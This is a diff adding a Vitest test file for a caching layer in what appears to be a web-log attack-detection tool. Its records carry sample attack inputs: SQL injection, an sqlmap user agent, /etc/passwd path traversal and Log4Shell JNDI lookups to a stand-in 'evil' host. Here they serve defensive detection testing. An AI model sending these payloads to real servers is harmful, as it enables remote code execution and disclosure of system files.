@@ -1,0 +1,55 @@
+import { describe, expect, it } from 'vitest';
+import { attackTags } from '../../src/features/attack-tags.js';
+import { requestProfile } from '../../src/features/request-profile.js';
+import { requestText } from '../../src/normalize/request-text.js';
+import { TextTable } from '../../src/normalize/text-table.js';
+import { TagMasks } from '../../src/pipeline/occurrences.js';
+import { RequestMemo } from '../../src/pipeline/request-memo.js';
+import type { LogRecord } from '../../src/types.js';
+import { record } from '../features/record.js';
+
+function setup() {
+  const table = new TextTable();
+  const tags = new TagMasks();
+  return { table, tags, memo: new RequestMemo(table, tags) };
+}
+
+describe('RequestMemo', () => {
+  it('gives every record the text, tags and profile computed from it alone, for repeated and new requests', () => {
+    const { table, tags, memo } = setup();
+    const records: LogRecord[] = [
+      record(),
+      record({ query: "id=1'%20OR%20'1'='1" }),
+      record({ query: "id=1'%20OR%20'1'='1", clientIp: '198.51.100.7', line: 2, status: 500 }),
+      record({ userAgent: 'sqlmap/1.7' }),
+      record({ path: '/../../etc/passwd' }),
+      record({ method: 'POST', path: '/../../etc/passwd' }),
+      record({ path: `/static/${'a'.repeat(400)}.css` }),
+    ];
+    for (const r of records) {
+      const facts = memo.facts(r);
+      expect(table.text(facts.textId)).toBe(requestText(r));
+      expect(tags.tags(facts.tagMask)).toEqual(attackTags(r));
+      expect(facts.profile).toEqual(requestProfile(r, attackTags(r)));
+    }
+    // Interning counts nothing: the caller counts occurrences.
+    expect([...table.counts]).toEqual(new Array(table.size).fill(0));
+  });
+
+  it('keeps one answer per request, shared by every client that sends it', () => {
+    const { memo } = setup();
+    const first = memo.facts(record({ clientIp: '192.0.2.1', path: '/a', query: 'q=1' }));
+    const again = memo.facts(record({ clientIp: '192.0.2.99', path: '/a', query: 'q=1', status: 404 }));
+    expect(again).toBe(first);
+    expect(memo.facts(record({ path: '/a', query: 'q=1', method: 'HEAD' }))).not.toBe(first);
+    expect(memo.facts(record({ path: '/a', query: 'q=1', userAgent: 'curl/8' }))).not.toBe(first);
+  });
+
+  it('never serves a remembered answer to a record whose referer or cookie carries a lookup', () => {
+    const { tags, memo } = setup();
+    expect(tags.tags(memo.facts(record()).tagMask)).toEqual([]);
+    expect(tags.tags(memo.facts(record({ referer: '${jndi:ldap://evil/a}' })).tagMask)).toContain('log4shell');
+    expect(tags.tags(memo.facts(record({ cookie: 'x=${${lower:j}ndi:dns://e/a}' })).tagMask)).toContain('log4shell');
+    expect(tags.tags(memo.facts(record()).tagMask)).toEqual([]);
+  });
+});
